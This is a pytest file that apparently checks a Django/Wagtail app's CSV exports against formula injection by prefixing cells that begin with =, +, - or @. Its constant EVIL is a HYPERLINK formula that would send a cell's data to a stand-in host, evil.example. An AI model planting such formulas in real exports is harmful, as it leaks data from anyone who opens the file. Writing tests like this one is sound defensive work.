"""CSV exports never hand a spreadsheet a formula (issue 11, fault 8: CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from core.exports import SafeWriter, csv_safe
from courses import services as course_services
from organisations import services as org_services
from tests.courses.conftest import make_learner
from tests.factories.organisations import totp_activate

EVIL = '=HYPERLINK("https://evil.example/?"&A1;"klik")'


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+45 12345678", "'+45 12345678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Karen Hansen", "Karen Hansen"),
        ("", ""),
        (-2, -2),  # numbers are numbers, not text a spreadsheet parses
        (None, None),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_our_own_writer_is_safe():
    out = io.StringIO()
    SafeWriter(out).writerow(["Navn", EVIL, 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["Navn", "'" + EVIL, "3"]


def test_every_wagtail_csv_export_goes_through_the_safe_writer():
    """Every admin listing with an export (ours and Wagtail's reports) uses the patched method."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from core.exports import _stream_csv

    assert SpreadsheetExportMixin.stream_csv is _stream_csv

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    overriding = [
        f"{cls.__module__}.{cls.__qualname__}"
        for cls in subclasses(SpreadsheetExportMixin)
        if cls.__dict__.get("stream_csv") not in (None, _stream_csv)
    ]
    assert overriding == []


def rows_of(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=";"))


@pytest.fixture
def admin_user(db):
    user = org_services.user_create(email="root@net.example", password="Korrekt-Hest-Batteri-9")
    user.is_superuser = True
    user.is_staff = True
    user.save(update_fields=["is_superuser", "is_staff"])
    totp_activate(user)
    return user


@pytest.mark.django_db
def test_organisation_listing_csv(client, admin_user):
    org_services.organisation_create(name=EVIL, kind="housing", cvr="44444444")
    client.force_login(admin_user)
    response = client.get("/admin/organisationer/?export=csv")
    assert response.status_code == 200
    cells = [cell for row in rows_of(response) for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells


@pytest.mark.django_db
def test_session_participants_csv(client, sofie, course, session, fjordbo):
    learner = make_learner("evil@fjordbo.example", fjordbo, first_name="=1+1")
    course_services.enrolment_create(
        user=learner, course=course, session=session, requested_by=learner
    )
    client.force_login(sofie)
    response = client.get(reverse("hold:participants", args=[session.pk]) + "?export=csv")
    assert response.status_code == 200
    names = [row[0] for row in rows_of(response)[1:]]
    assert names and all(name.startswith("'=1+1") for name in names), names


@pytest.mark.django_db
def test_site_history_report_csv(client, admin_user):
    """Wagtail's own report (audit log): a page title from an editor is text too."""
    from wagtail.log_actions import log

    organisation = org_services.organisation_create(name=EVIL, kind="housing", cvr="55555555")
    log(instance=organisation, action="wagtail.edit", user=admin_user)
    client.force_login(admin_user)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    cells = [cell for row in rows_of(response) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert any(EVIL in cell for cell in cells), cells
